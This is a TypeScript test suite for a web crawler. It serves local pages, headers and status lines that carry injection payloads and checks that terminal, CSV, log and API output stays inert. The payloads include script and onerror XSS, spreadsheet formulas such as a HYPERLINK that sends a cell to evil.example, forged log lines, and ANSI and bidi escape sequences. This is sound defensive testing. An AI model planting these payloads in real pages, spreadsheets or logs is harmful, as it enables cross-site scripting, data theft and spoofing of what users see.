/**
 * A site whose titles, addresses, headers, links and robots.txt are attacks on whoever shows them
 * (Y3): inert in the terminal, in CSV, in logs for people and for programs, and in the API. The
 * dashboard has its own test, in a browser (../dashboard.test.ts).
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo, createServer as createTcp } from 'node:net';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { orb, scratch } from '../kit/index.ts';
import { openService } from '../kit/service.ts';

const TITLES: Readonly<Record<string, string>> = {
  '/': '<script>window.pwned=1</script>"><img src=x onerror=alert(1)>',
  '/=1+cmd|calc!A1': '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '/%0AERROR%20forged': 'one\n{"level":"error","message":"forged"}\r\nERROR forged',
  '/%1B%5B31m': '\u001b[2J\u001b]0;owned\u0007\u009b31m red \u202egnp.exe',
  '/@sum': '@SUM(1+1)*cmd',
  '/tab': '\t=1+1',
};

async function openSite(t: TestContext): Promise<string> {
  const links = Object.keys(TITLES).map((path) => `<a href="${path}">${TITLES[path]}</a>`);
  const server = createServer(({ url = '' }, response) => {
    const path = Object.keys(TITLES).find((one) => decodeURI(one) === decodeURI(url));
    const title = path && TITLES[path];
    const headers = { 'content-type': 'text/html; charset=utf-8', 'x-note': '=1+1"><b>' };
    response.writeHead(title === undefined ? 404 : 200, headers);
    response.end(title && `<title>${title}</title><p>${title}</p>${links.join(' ')}`);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
}

/** Control characters but line ends and tabs, and what turns a text around. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function assertInert(text: string, where: string): void {
  const found = ACTIVE.exec(text);
  assert.equal(
    found,
    null,
    `${where}: ${JSON.stringify(text.slice((found?.index ?? 0) - 40).slice(0, 90))}`,
  );
  assert.ok(
    !/^(ERROR forged|\{"level":"error","message":"forged"\})/m.test(text),
    `${where}: own line`,
  );
}

test('a site of attacks: inert in terminal, CSV and logs', async (t) => {
  const start = await openSite(t);
  const dir = join(await scratch(t), 'crawl');
  const crawl = ['crawl', start, '--dir', dir, '--allow-private', '--rate', 'max', '--verbose'];
  const human = await orb(t, [...crawl, '--log-format', 'pretty']);
  assert.equal(human.code, 0, human.stderr);
  assertInert(human.stdout + human.stderr, 'log');
  const machine = await orb(t, [...crawl, '--fresh', '--log-format', 'json']);
  assertInert(machine.stderr, 'json log');
  for (const line of machine.stderr.trim().split('\n'))
    assert.equal(typeof JSON.parse(line).level, 'string');
  const asks = [
    ['pages'],
    ['links'],
    ['status'],
    ['why', `${start}%1B%5B31m`],

    ['why', start],
  ];
  for (const ask of asks) {
    const shown = await orb(t, [...ask, '--dir', dir]);
    assert.notEqual(shown.stdout, '', `${ask[0]}: ${shown.stderr}`);
    assertInert(shown.stdout + shown.stderr, ask.join(' '));
  }
  for (const command of ['pages', 'links']) {
    const { stdout } = await orb(t, [command, '--dir', dir, '--format', 'csv']);
    assertInert(stdout, `${command} csv`);
    for (const cell of cellsOf(stdout)) {
      assert.ok(!/^[=+@\t\r-]/.test(cell) || /^-?[\d.]+$/.test(cell), `${command}: ${cell}`);
    }
    assert.match(stdout, /HYPERLINK/, 'it is there, and inert');
  }
});

/** The cells of a CSV, quotes undone. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'));
}

test('a site of attacks: the API says JSON, and hands out bodies that no browser runs', async (t) => {
  const start = await openSite(t);
  const api = await openService(t, undefined);
  await api.post('/crawl/seeds', { urls: [start] });
  await api.quiet(2);
  const listed = await api.ask('/pages?limit=100');
  assert.equal(listed.headers.get('content-type'), 'application/json; charset=utf-8');
  assert.equal(listed.headers.get('x-content-type-options'), 'nosniff');
  for (const { url_hash: hash, url } of listed.json.pages) {
    const body = await api.ask(`/pages/${hash}/content`);
    if (body.status === 404) continue;
    assert.equal(body.headers.get('content-type'), 'application/octet-stream', url);
    assert.match(
      body.headers.get('content-disposition') ?? '',
      /^attachment; filename="[0-9a-f]+\.bin"$/,
    );
    assert.equal(body.headers.get('x-content-type-options'), 'nosniff');
    assert.match(body.headers.get('content-security-policy') ?? '', /default-src 'none'; sandbox;/);
  }
  const refused = await api.ask('/nowhere/%3Cscript%3Ealert(1)%3C/script%3E');
  assert.match(refused.headers.get('content-type') ?? '', /^application\/problem\+json/);
  assert.ok(!refused.text.includes('<script>'));
  assert.deepEqual(api.bugs, []);
});

test('a server whose status line and headers are attacks: the record and the log are inert', async (t) => {
  const server = createTcp((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', () => {
      const head =
        'HTTP/1.1 200 \u001b[31mOK\r\nX-A\u001b[2J: \u001b]0;owned\u0007\r\ncontent-type: text/html\u001b[1m\r\n';
      socket.end(Buffer.from(`${head}content-length: 2\r\n\r\nhi`, 'latin1'));
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  const start = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const dir = join(await scratch(t), 'crawl');
  const crawl = await orb(t, [
    'crawl',
    start,
    '--dir',
    dir,
    '--allow-private',
    '--retries',
    '0',
    '--verbose',
  ]);
  assertInert(crawl.stdout + crawl.stderr, 'log');
  for (const command of [['pages'], ['why', start], ['status']]) {
    const shown = await orb(t, [...command, '--dir', dir]);
    assertInert(shown.stdout + shown.stderr, command.join(' '));
  }
});
